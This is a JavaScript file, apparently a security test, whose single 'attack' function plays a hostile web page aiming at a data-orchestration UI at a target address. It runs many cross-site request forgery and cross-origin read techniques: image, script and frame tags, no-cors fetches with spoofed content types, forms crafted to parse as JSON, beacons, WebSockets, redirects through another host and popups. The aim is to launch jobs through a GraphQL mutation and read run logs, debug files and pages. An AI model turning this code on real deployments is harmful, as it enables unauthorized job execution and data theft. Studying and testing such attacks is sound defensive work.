/* Somebody else's program: tries to start runs of the UI at `target`, and to read what it says. */
const PATIENCE = 2000;
const pause = milliseconds => new Promise(done => setTimeout(done, milliseconds));

/* What each attempt has read, by its name; and what it might have started says its name. */
async function attack({target, from, run, log, elsewhere}) {
  const read = {};
  const opened = [];
  const launch = how => `mutation{launchRun(executionParams:{mode:"default",runConfigData:"{}",
    selector:{repositoryLocationName:"batch_assets",repositoryName:"__repository__",
    jobName:"audit_job"},executionMetadata:{tags:[{key:"attack",value:"${from}: ${how}"}]}}
    ){__typename}}`;
  const url = (how, path = "/graphql") =>
    `${target}${path}?query=${encodeURIComponent(launch(how))}`;
  const redirected = how => `${elsewhere}/redirect?to=${encodeURIComponent(url(how))}`;
  const json = how => JSON.stringify({query: launch(how)});
  const question = `${target}/graphql?query=${encodeURIComponent("{version}")}`;
  const note = (how, text) => { if (text) read[how] = String(text).slice(0, 2000); };

  const element = (how, tag, properties) => new Promise(done => {
    const made = Object.assign(document.createElement(tag), properties);
    made.onload = () => {
      // A frame is loaded, too, when it shows that nothing could be.
      if (tag !== "iframe" && tag !== "object" && tag !== "embed") note(how, "loaded");
      try { note(how, made.contentDocument?.body?.innerText); } catch { /* not ours to read */ }
      done();
    };
    made.onerror = done;
    document.body.append(made);
    setTimeout(done, PATIENCE);
  });
  const asked = async (how, address, options = {}) => {
    try { note(how, await (await fetch(address, options)).text()); } catch { /* not ours */ }
  };
  const form = (how, method, enctype, where, address = url(how)) => {
    const made = Object.assign(document.createElement("form"), {method, enctype, target: where});
    made.action = address;
    const field = document.createElement("input");
    // As text/plain this is the JSON {"query": "...", "": "="}.
    field.name = method === "get" ? "query" : json(how).replace(/}$/, ',"');
    field.value = method === "get" ? launch(how) : '":""}';
    made.append(field);
    document.body.append(made);
    made.submit();
  };
  const window_ = (how, address) => {
    const made = window.open(address, "_blank");
    if (made) opened.push([how, made]);
  };
  const speak = (how, message) => new Promise(done => {
    let said = "";
    try {
      const socket = new WebSocket(`${target.replace("http", "ws")}/graphql`, "graphql-ws");
      socket.onopen = () => {
        socket.send('{"type":"connection_init"}');
        socket.send(JSON.stringify({id: "1", type: "start", payload: {query: message}}));
      };
      socket.onmessage = event => {
        said += event.data;
        note(how, said);
        if (/"(data|error)"/.test(said)) socket.close();
      };
      socket.onclose = done;
      setTimeout(() => { socket.close(); done(); }, 5 * PATIENCE);
    } catch { done(); }
  });
  const listen = (how, address) => new Promise(done => {
    const source = new EventSource(address);
    source.onopen = () => note(how, "opened");
    source.onmessage = event => note(how, event.data);
    source.onerror = () => { source.close(); done(); };
    setTimeout(() => { source.close(); done(); }, PATIENCE);
  });

  const tries = [
    element("image", "img", {src: url("image")}),
    element("image of /graphql%0A", "img", {src: url("image of /graphql%0A", "/graphql%0A")}),
    element("image by a redirect", "img", {src: redirected("image by a redirect")}),
    element("script", "script", {src: url("script")}),
    element("module", "script", {type: "module", src: url("module")}),
    element("style sheet", "link", {rel: "stylesheet", href: url("style sheet")}),
    element("prefetch", "link", {rel: "prefetch", href: url("prefetch")}),
    element("preload", "link", {rel: "preload", as: "image", href: url("preload")}),
    element("video", "video", {src: url("video")}),
    element("frame", "iframe", {src: url("frame")}),
    element("frame by a redirect", "iframe", {src: redirected("frame by a redirect")}),
    element("sandboxed frame", "iframe", {sandbox: "allow-scripts", src: url("sandboxed frame")}),
    element("object", "object", {data: url("object")}),
    element("embed", "embed", {src: url("embed")}),
    asked("fetch", url("fetch")),
    asked("no-cors", url("no-cors"), {mode: "no-cors", credentials: "include"}),
    asked("fetch of JSON", `${target}/graphql`, {
      method: "POST", body: json("fetch of JSON"), headers: {"Content-Type": "application/json"},
    }),
    asked("PUT", url("PUT"), {method: "PUT"}),
    asked("fetch without a type", url("fetch without a type"), {
      method: "POST", mode: "no-cors", body: new Blob([json("fetch without a type")]),
    }),
    ...["text/plain", "text/plain; application/json", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=application/json"].map(type => {
      const how = `no-cors as ${type}`;
      return asked(how, url(how), {
        method: "POST", mode: "no-cors", body: json(how), headers: {"Content-Type": type},
      });
    }),
    asked("materialization", `${target}/report_asset_materialization/attack`, {
      method: "POST", mode: "no-cors", body: "{}",
    }),

    asked("reading an answer", question),
    asked("reading the log", log),
    asked("reading the debug file", `${target}/download_debug/${run}`),
    asked("reading the page", `${target}/runs/${run}`),
    element("picture of the UI", "img", {src: `${target}/favicon.png`}),
    element("answer as a script", "script", {src: question}),
    element("log as a script", "script", {src: log}),
    element("log as a style sheet", "link", {rel: "stylesheet", href: log}),
    element("log in a frame", "iframe", {src: log}),
    element("UI in a frame", "iframe", {src: `${target}/runs/${run}`}),
    listen("log as events", log),
    listen("answer as events", question),
    speak("events by a WebSocket", `subscription{pipelineRunLogs(runId:"${run}"){__typename
      ...on PipelineRunLogsSubscriptionSuccess{messages{__typename
      ...on MessageEvent{message runId}}}}}`),
    speak("launched by a WebSocket", launch("launched by a WebSocket")),
  ];
  navigator.sendBeacon(url("beacon"), json("beacon"));
  navigator.sendBeacon(url("beacon of a form"), new URLSearchParams({query: launch("beacon")}));
  try {
    navigator.sendBeacon(`${target}/graphql`,
      new Blob([json("beacon of JSON")], {type: "application/json"}));
  } catch { /* no longer allowed by this browser */ }
  document.body.insertAdjacentHTML("beforeend", '<iframe name="hidden"></iframe>');
  form("form in a frame", "post", "text/plain", "hidden");
  for (const enctype of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"])
    form(`form of ${enctype}`, "post", enctype, "_blank");
  form("form", "get", "", "_blank");
  window_("window", url("window"));
  window_("window by a redirect", redirected("window by a redirect"));
  window_("answer in a window", question);
  window_("log in a window", log);
  window_("UI in a window", `${target}/runs/${run}`);
  await Promise.all(tries);
  await pause(PATIENCE / 2);
  for (const [how, made] of opened) {
    try { note(how, made.document.body.innerText); } catch { /* not ours to read */ }
    made.close();
  }
  return read;
}
